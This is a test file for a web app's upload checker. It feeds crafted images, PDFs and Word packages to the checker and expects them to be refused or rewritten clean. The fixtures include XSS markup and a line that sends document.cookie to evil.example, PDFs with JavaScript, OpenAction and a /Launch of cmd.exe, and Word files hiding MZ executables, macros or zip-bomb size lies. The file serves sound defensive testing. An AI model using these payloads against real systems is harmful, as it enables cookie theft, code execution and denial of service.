import { strToU8, zipSync, type Zippable } from "fflate";
import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { DOCUMENT, IVR_ATTACHMENT, RESUME } from "~/lib/uploads";
import { checkFile, checkUpload } from "./file-type";
import { pdfHasActiveContent } from "./pdf-scan";
import { MAX_WORD_INFLATED_BYTES, wordPackageProblem } from "./word-package";

// Crafted files that a careless check takes for documents and pictures: a page
// or a script behind an image, a PDF that acts when opened, a Word package that
// carries a program or inflates without end.

const text = (t: string) => Buffer.from(t, "latin1");
const join = (...parts: (Uint8Array | string)[]) => new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === "string" ? text(p) : p))));
const includes = (bytes: Uint8Array, needle: string) => Buffer.from(bytes).includes(needle);

const picture = (width = 4, height = 2) => sharp({ create: { width, height, channels: 3, background: "#c83c3c" } });

describe("images are decoded and written anew", () => {
  let png: Uint8Array;
  let jpeg: Uint8Array;
  beforeAll(async () => {
    png = new Uint8Array(await picture().png().toBuffer());
    jpeg = new Uint8Array(await picture().jpeg().toBuffer());
  });

  const markup: [string, string][] = [
    ["<img onerror>", '<img src=x onerror="alert(document.cookie)">'],
    ["<a href=javascript:>", '<a href="javascript:alert(1)">open</a>'],
    ["<meta refresh>", '<meta http-equiv="refresh" content="0;url=//evil.example/">'],
    ["<object>", '<object data="//evil.example/x.swf"></object>'],
    ["an XHTML script", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
  ];
  it.each(markup)("refuses a PNG and a JPEG followed by %s", async (_, page) => {
    expect(await checkUpload(join(png, page), ["png", "jpg"])).toEqual({ ok: false, problem: "active" });
    expect(await checkUpload(join(jpeg, page), ["png", "jpg"])).toEqual({ ok: false, problem: "active" });
  });

  it("keeps nothing after the image data: a script or a second file behind it is gone", async () => {
    const zip = zipSync({ "payload.js": strToU8("fetch('//evil.example/'+document.cookie)") });
    for (const original of [png, jpeg]) {
      const checked = await checkUpload(join(original, "fetch('//evil.example/'+document.cookie)//", zip), ["png", "jpg"]);
      expect(checked.ok).toBe(true);
      if (!checked.ok) continue;
      expect(includes(checked.bytes, "evil.example")).toBe(false);
      expect(includes(checked.bytes, "payload.js")).toBe(false);
      // Still the picture it was.
      expect(await sharp(checked.bytes).metadata()).toMatchObject({ width: 4, height: 2 });
    }
  });

  it("turns a photo upright by its orientation and drops its metadata, EXIF GPS included", async () => {
    const photo = new Uint8Array(
      await picture(4, 2)
        .withMetadata({ orientation: 6 })
        .withExifMerge({
          IFD0: { ImageDescription: "javascript:alert(1)" },
          IFD3: { GPSLatitudeRef: "N", GPSLatitude: "33/1 26/1 0/1", GPSLongitudeRef: "W", GPSLongitude: "112/1 4/1 0/1" },
        })
        .jpeg()
        .toBuffer(),
    );
    const before = await sharp(photo).metadata();
    // The GPS directory's pointer (tag 0x8825, in either byte order) is there before.
    const exif = Buffer.from(before.exif!);
    expect(exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]))).toBe(true);
    const checked = await checkUpload(photo, ["jpg"]);
    expect(checked.ok).toBe(true);
    if (!checked.ok) return;
    const after = await sharp(checked.bytes).metadata();
    expect(after).toMatchObject({ format: "jpeg", width: 2, height: 4 });
    expect(after.orientation).toBeUndefined();
    expect(after.exif).toBeUndefined();
    expect(includes(checked.bytes, "javascript")).toBe(false);
  });

  it("refuses bytes that start like a PNG but are no picture", async () => {
    expect(await checkUpload(join(png.subarray(0, 40), "not the rest of a picture"), ["png"])).toEqual({ ok: false, problem: "image" });
  });
});

/** A PDF written by hand: the header, the objects as given, and a trailer naming object 1 as the catalog. */
function rawPdf(...objects: string[]) {
  const body = objects.map((o, i) => `${i + 1} 0 obj\n${o}\nendobj\n`).join("");
  return text(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R >>\n%%EOF\n`);
}
const PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";

describe("a PDF that acts when opened is refused", () => {
  const refused: [string, Uint8Array][] = [
    ["/JavaScript in the catalog's names", rawPdf("<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>", PAGES, PAGE, "<< /Names [(a) 5 0 R] >>")],
    ["a name escape: /J#61vaScript", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /AA << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >> >>", PAGES, PAGE)],
    ["/OpenAction with an action", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example/) >> >>", PAGES, PAGE)],
    ["/OpenAction naming an action object", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")],
    ["/OpenAction going to a page, then on to another action", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >> >>", PAGES, PAGE)],
    ["/OpenAction naming an object that is not there", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>", PAGES, PAGE)],
    ["/Launch", rawPdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES, "<< /Type /Page /Parent 2 0 R /AA << /O << /S /Launch /F (cmd.exe) >> >> >>")],
    ["/EmbeddedFile", rawPdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")],
    ["an <object> behind %%EOF", join(rawPdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE), '<object data="//evil.example/">')],
    ["an object stream that cannot be read", rawPdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, "<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 4 >>\nstream\n4a53\nendstream")],
  ];
  it.each(refused)("refuses %s", async (_, pdf) => {
    expect(await checkUpload(pdf, ["pdf"])).toEqual({ ok: false, problem: "active" });
  });

  it("finds a script hidden in a compressed object stream, as modern writers store objects", async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
    const pdf = await doc.save({ useObjectStreams: true });
    // Nothing of it shows in the file's own bytes.
    expect(includes(pdf, "JavaScript")).toBe(false);
    expect(pdfHasActiveContent(pdf)).toBe(true);
  });

  const kept: [string, Uint8Array][] = [
    ["/OpenAction that opens at the first page", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES, PAGE)],
    ["/OpenAction naming a destination", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, "[3 0 R /FitH 792]")],
    ["/OpenAction naming a GoTo action to a page, as LaTeX writes", rawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, "<< /S /GoTo /D [3 0 R /Fit] >>")],
    ["the words in a string or in a picture's bytes", rawPdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, "<< /Title (About /JavaScript and /Launch) >>", "<< /Type /XObject /Subtype /Image /Length 11 >>\nstream\n/JavaScript\nendstream")],
  ];
  it.each(kept)("keeps %s", async (_, pdf) => {
    expect(await checkUpload(pdf, ["pdf"])).toMatchObject({ ok: true, type: { ext: "pdf" } });
  });

  it("keeps a PDF written with object streams, a title that names scripts and an opening GoTo inside a stream", async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage();
    doc.setTitle("Wound care notes: /JavaScript is not in here");
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(doc.context.obj({ S: "GoTo", D: [page.ref, "Fit"] })));
    expect(await checkUpload(await doc.save({ useObjectStreams: true }), ["pdf"])).toMatchObject({ ok: true });
  });
});

const WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const CONTENT_TYPES = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`;
function word(parts: Record<string, string | Uint8Array> = {}, level: 0 | 1 | 6 = 6): Uint8Array {
  const files: Zippable = {
    "[Content_Types].xml": strToU8(CONTENT_TYPES),
    "_rels/.rels": strToU8("<Relationships/>"),
    "word/document.xml": strToU8("<w:document><w:body><w:p/></w:body></w:document>"),
  };
  for (const [name, value] of Object.entries(parts)) files[name] = typeof value === "string" ? strToU8(value) : value;
  return zipSync(files, { level });
}
/** The zip with every part's declared size (local header and central directory) written as 1 KB: a lie. */
function lyingSizes(zip: Uint8Array): Uint8Array {
  const bytes = Buffer.from(zip);
  for (let at = 0; at + 4 <= bytes.length; at++) {
    const signature = bytes.readUInt32LE(at);
    if (signature === 0x04034b50) bytes.writeUInt32LE(1024, at + 22);
    else if (signature === 0x02014b50) bytes.writeUInt32LE(1024, at + 24);
  }
  return new Uint8Array(bytes);
}
const PROGRAM = text("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00");

describe("a Word package that carries more than a document is refused", () => {
  it("keeps a plain document", async () => {
    expect(wordPackageProblem(word())).toBeNull();
    expect(await checkUpload(word(), ["docx"])).toMatchObject({ ok: true, type: { ext: "docx" } });
  });

  const refused: [string, () => Uint8Array][] = [
    ["a program saved as a picture (an MZ header in word/media/image1.png)", () => word({ "word/media/image1.png": PROGRAM })],
    ["a program stored without compression in a part named like XML", () => word({ "customXml/item1.xml": PROGRAM }, 0)],
    ["a part name with a trailing dot", () => word({ "word/media/setup.exe.": "x" })],
    ["a part name with a trailing space", () => word({ "word/media/readme.txt ": "x" })],
    ["a folder name with a trailing dot", () => word({ "word/media./image1.png": "x" })],
    ["a macro project", () => word({ "word/vbaProject.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) })],
  ];
  it.each(refused)("refuses %s", async (_, make) => {
    expect(await checkUpload(make(), ["docx"])).toEqual({ ok: false, problem: "active" });
  });

  describe("parts that inflate beyond 50 MB", () => {
    let honest: Uint8Array;
    beforeAll(() => {
      honest = word({ "word/media/filler.xml": new Uint8Array(MAX_WORD_INFLATED_BYTES + 1024 * 1024) }, 1);
    });

    it("refuses them by the sizes they declare, before inflating anything", () => {
      expect(honest.byteLength).toBeLessThan(200 * 1024);
      expect(wordPackageProblem(honest)).toBe("active");
    });

    it("refuses them when they declare less: inflating stops at the bound", () => {
      const lying = lyingSizes(honest);
      expect(wordPackageProblem(lying)).toBe("active");
    });
  });
});

describe("checkFile answers in the words of the field", () => {
  const file = (bytes: Uint8Array | string, name: string, type = "") => new File([new Uint8Array(typeof bytes === "string" ? text(bytes) : bytes)], name, { type });

  it("says what is wrong with an attachment", async () => {
    expect(await checkFile(file("<html><body>hi</body></html>", "card.pdf", "application/pdf"), IVR_ATTACHMENT)).toEqual({ ok: false, message: "Attach a PDF, JPEG or PNG file" });
    expect(await checkFile(file(rawPdf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>"), "notes.pdf"), IVR_ATTACHMENT)).toEqual({
      ok: false,
      message: '"notes.pdf" has scripts, actions or attached files in it, which we do not take: print it to a new PDF and attach that.',
    });
    expect(await checkFile(file(word({ "word/media/image1.png": PROGRAM }), "cv.docx"), RESUME)).toEqual({
      ok: false,
      message: '"cv.docx" holds a program, macros or hidden content, which we do not take: save it again as a plain Word document or a PDF.',
    });
    expect(await checkFile(file(new Uint8Array(IVR_ATTACHMENT.maxBytes + 1), "wound.jpg"), IVR_ATTACHMENT)).toMatchObject({ ok: false, message: expect.stringContaining("larger than 10 MB") });
  });

  it("gives the name and bytes to store, the picture written anew", async () => {
    const png = new Uint8Array(await picture().png().toBuffer());
    const checked = await checkFile(file(join(png, "trailing bytes"), "../Licence scan.png", "image/png"), DOCUMENT);
    // A name with a folder is refused; a plain one is kept, with the extension of what the bytes are.
    expect(checked.ok).toBe(false);
    const plain = await checkFile(file(join(png, "trailing bytes"), "Licence scan.PNG", "image/png"), DOCUMENT);
    expect(plain).toMatchObject({ ok: true, name: "Licence scan.png", mimeType: "image/png" });
    if (plain.ok) expect(includes(plain.bytes, "trailing bytes")).toBe(false);
  });
});
